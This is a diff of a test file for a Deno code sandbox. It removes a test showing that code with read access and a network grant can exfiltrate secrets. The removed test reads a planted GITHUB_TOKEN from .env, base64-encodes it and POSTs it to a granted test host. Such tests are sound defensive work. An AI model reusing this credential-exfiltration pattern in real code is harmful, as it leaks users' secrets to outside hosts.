@@ -63,21 +63,6 @@ describe('Deno runner: the network', () => {
     expect(result.logs).toBe('');
     expect(hits(granted)).toBe(before);
   });
-
-  it('with unguarded egress allowed, the secret does reach the granted host: what Deno flags cannot contain (measured)', async () => {
-    const open = makeBench({ unguardedEgress: true });
-    try {
-      open.file('workspace/.env', `GITHUB_TOKEN=${SECRET}\n`);
-      const code = `export default async (a, nodwyn) => (await nodwyn.fetch('${granted.origin}/exfil-allowed', { method: 'POST', body: btoa(await nodwyn.readFile('.env')) })).status;`;
-      const result = await open.run(code, { grants: { read: true, net: [granted.host] } });
-      expectValue(result, 200);
-      expect(result.taint).toEqual([]);
-      const seen = granted.seen.find((s) => s.url === '/exfil-allowed');
-      expect(Buffer.from(seen?.body ?? '', 'base64').toString()).toContain(SECRET);
-    } finally {
-      open.remove();
-    }
-  });
 });
 
 describe('Deno runner: internals', () => {
